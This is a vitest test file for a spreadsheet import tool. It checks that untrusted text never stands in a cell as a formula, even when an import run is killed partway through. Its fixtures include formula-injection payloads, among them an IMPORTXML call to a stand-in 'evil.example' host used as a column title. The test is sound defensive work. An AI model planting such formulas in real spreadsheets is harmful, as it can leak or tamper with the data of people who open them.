/** At no moment, whatever call an execution is ended or fails at, does a stranger's text stand in a cell as a formula. */
import { beforeAll, describe, expect, test, vi } from 'vitest';
import type { Definition } from '../../../src/imports/definition/definition';
import { Killed, type OpenedImport, openImport } from '../../imports/opened-import';
import { projectsImport, setSource } from '../../imports/projects-import';
import { isLong } from '../long';
import { differences } from './differences';
import { PLATFORM_NAMES, PLATFORMS, type PlatformName } from './platforms';
import { inSheet, ruleOn } from './rule';
import { FORMULAS } from './texts';
import { type Watched, watchWorkbook } from './watched-workbook';

const MINUTES_10 = 600_000;

/** A few of each kind; a text that is another's once control characters are gone is left out. */
const TEXTS: readonly string[] = FORMULAS.filter(
  (text, index) => index % 16 === 0 && FORMULAS.findIndex((one) => inSheet(one) === inSheet(text)) === index,
);

/** Titles are the person's, and no better. */
const COLUMNS: Definition['columns'] = [
  { key: 'id', title: '=IMPORTXML("https://evil.example","//id")' },
  { key: 'name', title: '+SUM(1,1)' },
  { key: 'community_size', title: ' =Size' },
];

beforeAll(() => {
  // What the dead execution would have logged.
  for (const method of ['log', 'warn'] as const)
    vi.spyOn(console, method).mockImplementation(() => undefined);
});

interface Prepared {
  readonly opened: OpenedImport;
  readonly watched: Watched;
  readonly id: string;
}

function send(opened: OpenedImport, texts: readonly string[]): void {
  setSource(
    opened,
    texts.map((text, index) => ({ id: text, name: texts[texts.length - 1 - index] ?? '', size: index })),
  );
}

/** One run was good; then the source changed. */
function prepare(mode: Definition['mode'], platform: PlatformName): Prepared {
  const opened = openImport(PLATFORMS[platform]);
  const watched = watchWorkbook(opened.sheet.workbook);
  send(opened, TEXTS.slice(1));
  const { id } = opened.run(projectsImport({ mode, columns: COLUMNS, name: '=NAME()' }));
  opened.sheet.google.clock.advance(MINUTES_10);
  send(opened, TEXTS.toReversed().slice(1));
  return { opened, watched, id };
}

/** The run, and its undo. */
function act({ opened, id }: Prepared): void {
  opened.runAgain(id);
  opened.ask('undoImport', { id });
}

/** What is unfinished is finished, and then there is another run. */
function goOn({ opened, id }: Prepared): void {
  for (let runs = 1; runs <= 2; runs += 1) {
    opened.sheet.google.clock.advance(MINUTES_10);
    opened.runAgain(id);
  }
}

function shown({ opened }: Prepared, column: number): readonly unknown[] {
  const sheet = opened.sheet.workbook.sheetByName('Projects');
  return sheet?.values({ row: 2, column, rows: Math.max(1, sheet.lastRow - 1), columns: 1 }).flat() ?? [];
}

/** Every so many calls; on each platform others. */
const STEP = isLong ? 1 : 41;

describe.each(PLATFORM_NAMES.map((name, index) => [name, index] as const))('%s', (platform, number) => {
  test.each(['replace', 'update', 'snapshot'] as const)('%s, ended at its calls', (mode) => {
    const whole = prepare(mode, platform);
    const callsBefore = whole.opened.calls;
    act(whole);
    const calls = whole.opened.calls - callsBefore;
    expect(whole.watched.formulas).toEqual([]);
    const losses = isLong ? [0, 1, 2, 3, undefined] : [0, 2];
    for (let call = 1 + ((number * 6 + mode.length) % STEP); call <= calls; call += STEP) {
      for (const lost of losses) {
        const prepared = prepare(mode, platform);
        prepared.opened.killAt(call, lost);
        expect(() => act(prepared), `call ${call}`).toThrow(Killed);
        goOn(prepared);
        expect(prepared.watched.formulas, `call ${call}, ${lost} lost`).toEqual([]);
        if (mode !== 'replace') continue;
        const expected = TEXTS.toReversed().slice(1).map(ruleOn(PLATFORMS[platform]).inSheet);
        expect(differences(shown(prepared, 1), expected), `call ${call}, ${lost} lost`).toEqual([]);
      }
    }
  });
});

test('the watcher sees a formula that stands for a moment only', () => {
  const { workbook } = openImport().sheet;
  const watched = watchWorkbook(workbook);
  const cell = { row: 1, column: 1, rows: 1, columns: 1 };
  for (const text of ['=SUM(1,1)', "'=SUM(1,1)"]) workbook.sheetById(0)?.enter(cell, [[text]]);
  expect(watched.formulas).toEqual(['Sheet1 R1C1: =SUM(1,1)']);
});
